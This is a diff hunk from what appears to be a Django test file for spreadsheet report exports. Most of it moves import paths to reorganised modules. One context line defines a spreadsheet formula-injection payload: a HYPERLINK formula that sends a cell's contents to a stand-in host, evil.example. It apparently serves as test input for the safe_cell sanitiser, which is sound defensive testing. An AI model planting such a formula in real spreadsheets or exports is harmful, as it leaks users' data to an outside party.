@@ -12,12 +12,12 @@ from django.utils import translation
 from openpyxl import load_workbook
 
 from registration.permissions import event_role_assign
-from registration.reports import report_xlsx
-from registration.selectors.reports import report_build
+from registration.reports.exporters import report_xlsx
+from registration.reports.selectors import report_build
 from registration.spreadsheets import safe_cell
 from tests.factories import RegistrationFactory
 from tests.registration.registration_helpers import event_create
-from tests.registration.report_fixtures import answer, hand_counted_event, make_survey
+from tests.registration.reports.report_fixtures import answer, hand_counted_event, make_survey
 
 LIST = "wagtailsnippets_registration_registration:list"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
